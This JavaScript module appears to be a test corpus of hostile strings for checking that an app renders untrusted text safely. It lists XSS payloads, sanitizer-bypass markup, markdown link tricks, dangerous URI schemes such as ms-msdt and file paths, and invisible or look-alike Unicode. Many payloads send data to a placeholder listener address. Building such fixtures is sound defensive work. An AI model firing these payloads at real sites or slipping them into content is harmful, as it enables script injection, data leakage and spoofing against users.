/**
 * Texts that hurt whoever shows them as something else than text: markup that runs or loads, links that
 * lead away, and characters that are not seen. Each tells on itself: it calls `alert`, or it asks
 * the address that it is given for a picture, a page or a style.
 */

/** What runs as soon as it is taken for markup. `HERE` stands for the address that listens. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<script src="HERE/script.js"></script>',
  '<SCRIPT SRC=//HERE_HOST/script.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script type="module">import("HERE/module.js")</script>',
  '<script>fetch("HERE/fetched?"+document.title)</script>',
  '<script>top.location="HERE/gone"</script>',
  '<script>window.open("HERE/opened")</script>',
  '<script>new WebSocket("ws://HERE_HOST/socket")</script>',
  '<script>navigator.sendBeacon("HERE/beacon", "x")</script>',
  '<script>window.patchbay.request("servers.list","").then(alert)</script>',
  '"><script>alert(1)</script>',
  '\'"--></style></script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</pre><script>alert(1)</script>',
  '`-alert(1)-`',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  "';alert(1)//",
  '\\";alert(1);//'
]

const HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" />',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '<img src="HERE/pixel.png">',
  '<img srcset="HERE/pixel-2x.png 2x" src=x>',
  '<picture><source srcset="HERE/source.png"><img src=x></picture>',
  '<img src=x style="background:url(HERE/background.png)">',
  '<body onload=alert(1)>',
  '<body background="HERE/body.png">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<input type=image src="HERE/input.png" onerror=alert(1)>',
  '<video src="HERE/film.mp4" autoplay onerror=alert(1)>',
  '<video poster="HERE/poster.png"></video>',
  '<audio src="HERE/sound.mp3" autoplay onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div onpointerover="alert(1)">over</div>',
  '<div style="animation-name:x" onanimationstart="alert(1)"></div>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>z</p>',
  '<a href="javascript:alert(1)" autofocus>click</a>',
  '<a href="HERE/clicked" ping="HERE/ping" target=_blank>click</a>',
  '<form action="javascript:alert(1)"><button autofocus>go</button></form>',
  '<button formaction="javascript:alert(1)" form=x>go</button>'
]

const FRAMES = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="HERE/frame.html"></iframe>',
  '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="file:///etc/hostname"></iframe>',
  '<object data="HERE/object.html"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="HERE/embedded.swf">',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  '<applet code="HERE/applet.class"></applet>',
  '<frameset onload=alert(1)><frame src="HERE/frameset.html"></frameset>',
  '<portal src="HERE/portal.html" onload=alert(1)></portal>',
  '<webview src="HERE/webview.html" nodeintegration></webview>',
  '<meta http-equiv="refresh" content="0;url=HERE/refreshed">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<base href="HERE/">',
  '<link rel=stylesheet href="HERE/style.css">',
  '<link rel=prefetch href="HERE/prefetched"><link rel=dns-prefetch href="//HERE_HOST">',
  '<link rel=import href="HERE/imported.html">',
  '<style>@import "HERE/imported.css";</style>',
  '<style>*{background:url("HERE/everything.png")}</style>',
  '<style>@font-face{font-family:x;src:url("HERE/font.woff")}*{font-family:x}</style>',
  '<div style="background-image:url(HERE/inline.png);position:fixed;inset:0;z-index:9999">over</div>',
  '<div style="width:expression(alert(1))">',
  '<form id=patchbay action="HERE/form" method=post><input name=request></form>'
]

const FOREIGN = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="HERE/svg.js"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
  '<svg><use href="HERE/use.svg#x"/></svg>',
  '<svg><image href="HERE/image.png"/></svg>',
  '<svg><feImage href="HERE/filter.png"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"/></foreignObject></svg>',
  '<svg><style>@import url("HERE/svg.css");</style></svg>',
  '<?xml-stylesheet href="HERE/xml.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "HERE/entity">]><svg>&y;</svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math href="javascript:alert(1)">click</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E'
]

const MARKDOWN = [
  '![picture](HERE/markdown.png)',
  '![picture][there]\n\n[there]: HERE/reference.png',
  '[![picture](HERE/linked.png)](HERE/link)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/hostname)',
  '[click](//HERE_HOST/schemeless)',
  '[https://honest.example](HERE/dishonest)',
  '[click](https://honest.example@HERE_HOST/user)',
  '[click](\\\\HERE_HOST\\share)',
  '<javascript:alert(1)>',
  '<HERE/autolink>',
  '![x](x "onerror=alert(1)")',
  '![x"onerror="alert(1)](x)',
  '[x](x "y\\"onmouseover=\\"alert(1)")',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![](HERE/cell.png) |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [ ] <img src=x onerror=alert(1)>',
  '$$\\href{javascript:alert(1)}{x}$$',
  '```mermaid\ngraph TD;A["<img src=x onerror=alert(1)>"]\n```'
]

const ADDRESSES = [
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'HERE/address',
  '//HERE_HOST/address',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'search-ms:query=x&crumb=location:\\\\HERE_HOST\\share',
  'smb://HERE_HOST/share/x',
  'file:///etc/hostname',
  '../../../../etc/hostname',
  'http://[::1]:1/',
  '__proto__',
  'constructor'
]

/** Terminal sequences, controls, directions, what has no width, tags, and letters that look alike. */
const UNSEEN = [
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;HERE/osc\u001b\\click\u001b]8;;\u001b\\',
  '\u001b[2J\u001b[H\u001b[8mhidden\u001b[28m',
  '\u001b]0;title\u0007',
  'a\u0008b\u000cc\u000bd\u007fe',
  'nul\u0000after',
  'carriage\rreturn',
  'c1 \u0085 \u009b31m \u009d',
  'bidi \u202eexe.txt\u202c',
  'embedded \u202a\u202b\u202d end',
  'isolates \u2066\u2067\u2068\u2069 end',
  'marks \u200e\u200f\u061c end',
  'ze\u200bro\u200cwi\u200ddth',
  'joined\u2060by\u2061no\u2062th\u2063in\u2064g',
  '\ufeffbyte order',
  'soft\u00adhyphen',
  'selected\ufe00 \ufe0f \u{e0100}',
  'tags \u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}',
  'line\u2028separated\u2029twice',
  'private \ue000 \u{f0000} \u{10fffd}',
  'shorthand \ufff9\ufffa\ufffb',
  'hangul \u115f\u1160\u3164\uffa0 fillers',
  'braille \u2800 blank',
  'old formats \u206a\u206f \u180e',
  'е\u0441\u04bbо',
  'раураl',
  `${' '.repeat(200)}far to the right`,
  `${'\n'.repeat(60)}far below`
]

/** All of them, with the address that listens put in. */
export function payloadsFor(here) {
  const host = here.replace(/^\w+:\/\//, '')
  return [...SCRIPTS, ...HANDLERS, ...FRAMES, ...FOREIGN, ...MARKDOWN, ...ADDRESSES, ...UNSEEN].map(
    (text) => text.replaceAll('HERE_HOST', host).replaceAll('HERE', here)
  )
}
